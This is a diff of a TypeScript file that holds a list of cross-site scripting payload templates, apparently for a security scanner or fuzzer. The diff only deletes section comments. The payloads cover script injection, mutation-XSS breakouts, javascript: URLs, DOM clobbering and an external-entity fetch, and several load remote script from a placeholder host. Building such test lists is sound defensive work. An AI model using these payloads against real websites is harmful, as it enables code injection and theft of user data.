@@ -13,7 +13,6 @@ const CODES = (id: number): readonly string[] => [
 
 /** CODE is executed, HOST is requested. */
 const TEMPLATES: readonly string[] = [
-  // Elements that execute by themselves.
   ...["<script>CODE</script>", "<ScRiPt >CODE</sCrIpT >", "<script src=//HOST/x.js></script>"],
   ...["<script type=module>CODE</script>", "<scr<script>ipt>CODE</scr</script>ipt>", "<script\\x20>CODE</script>"],
   ...["<script/x>CODE</script>", "<img src=x onerror=CODE>", '<img src=x onerror="CODE">'],
@@ -54,12 +53,10 @@ const TEMPLATES: readonly string[] = [
   "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=CODE&gt;'>",
   "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=CODE src>'>",
   "<svg></p><style><a id='</style><img src=1 onerror=CODE>'>",
-  // Payloads for script contexts.
   ...["';CODE;//", '";CODE;//', "\\';CODE;//", '\\";CODE;//', "`;CODE;//", "\x24{CODE}", "'-CODE-'"],
   ...["\u2028CODE\u2029", '"}]};CODE;//', "\\u003c/script>\\u003cscript>CODE\\u003c/script>"],
   ...["</script/><script>CODE</script>", "{{constructor.constructor('CODE')()}}", "<%= CODE %>#{CODE}", "*/CODE/*"],
   "\r\nCODE\r\n",
-  // URLs.
   ...["javascript:CODE", "JaVaScRiPt:CODE", " javascript:CODE", "\u0001javascript:CODE", "java\nscript:CODE"],
   ...["javascript&colon;CODE", "javascript://%0aCODE", "data:text/html,<script>CODE</script>", "vbscript:CODE"],
   ...['https://HOST/"onerror="CODE', "//HOST/x.js", "/\\HOST/x.js", "https://HOST/?<script>CODE</script>"],
@@ -75,7 +72,6 @@ const TEMPLATES: readonly string[] = [
   "<a id=__remixContext></a><a id=__remixManifest href=//HOST/x.js></a>",
   "<form name=body><input name=appendChild></form>",
   ...["<img name=getElementById><img name=currentScript src=//HOST/x>", "__proto__"],
-  // Feeds, calendars, mails.
   "]]></content><x:script xmlns:x='http://www.w3.org/1999/xhtml'>CODE</x:script>",
   "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>CODE</x:script>",
   ...["<?xml-stylesheet href='javascript:CODE'?>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'https://HOST/'>]>&y;"],
